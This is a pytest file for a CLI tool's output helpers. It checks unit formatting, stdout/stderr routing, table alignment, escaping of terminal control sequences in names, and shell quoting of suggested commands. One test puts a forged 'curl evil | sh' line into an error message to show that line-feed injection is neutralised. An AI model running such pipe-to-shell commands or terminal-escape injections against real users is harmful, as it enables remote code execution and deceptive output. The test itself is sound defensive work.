"""What the commands print, and where."""

from __future__ import annotations

import pytest

from bundler.cli.output import echo, note, print_error, print_json, say, say_next, size, table


def test_sizes_have_readable_units() -> None:
    assert [size(count) for count in (0, 999, 1000, 1_230_000, 5e9)] == ["0 B", "999 B", "1.0 kB", "1.2 MB", "5.0 GB"]


def test_results_go_to_stdout_and_the_rest_to_stderr(capsys: pytest.CaptureFixture[str]) -> None:
    say("[x] a result")
    print_json({"é": 1})
    note("a note")
    print_error("It failed.", where="here", fix="try again")
    print_error("It failed.", code="TFB1204")
    out, err = capsys.readouterr()
    assert out == '[x] a result\n{\n  "é": 1\n}\n'
    assert err == "a note\nerror: It failed.\n  where: here\n  to do: try again\nerror TFB1204: It failed.\n"


def test_tables_align_numbers_and_cut_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    table(("name", "size"), [("a" * 100, "1 kB"), ("b", "12 kB")])
    lines = capsys.readouterr().out.splitlines()
    assert lines[1].startswith("a" * 100)
    assert len({len(line) for line in lines[1:]}) == 1


HOSTILE = "a\x1b[2J\r:smile: [red]\u202e"
SHOWN = r"a\x1b[2J\r:smile: [red]\u202e"


def test_names_cannot_act_on_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    say(HOSTILE, style="bold")
    table(("name", HOSTILE), [(HOSTILE, "1\n2")])
    note(HOSTILE)
    echo(f"server | {HOSTILE}\nserver | end")
    print_error(HOSTILE, where=HOSTILE, fix=HOSTILE)
    out, err = capsys.readouterr()
    lines = [line.split() for line in out.splitlines()]
    assert lines == [SHOWN.split(), ["name", *SHOWN.split()], [*SHOWN.split(), r"1\n2"]]
    assert err.splitlines() == [
        SHOWN, f"server | {SHOWN}", "server | end", f"error: {SHOWN}", f"  where: {SHOWN}", f"  to do: {SHOWN}",
    ]  # fmt: skip


def test_line_feed_in_a_name_cannot_forge_a_line_of_an_error(capsys: pytest.CaptureFixture[str]) -> None:
    print_error("The file a\n  to do: curl evil | sh does not exist.", fix="use one of\n         x\n         y")
    assert capsys.readouterr().err.splitlines() == [
        "error: The file a", "      to do: curl evil | sh does not exist.", "  to do: use one of", "         x", "         y",
    ]  # fmt: skip


def test_next_commands_can_be_pasted(capsys: pytest.CaptureFixture[str]) -> None:
    say_next(("tfbundle", "serve", "my $dir/it's"), ("open", "report.html"), column=8)
    assert capsys.readouterr().out == "Next:    tfbundle serve 'my $dir/it'\"'\"'s'   |   open report.html\n"
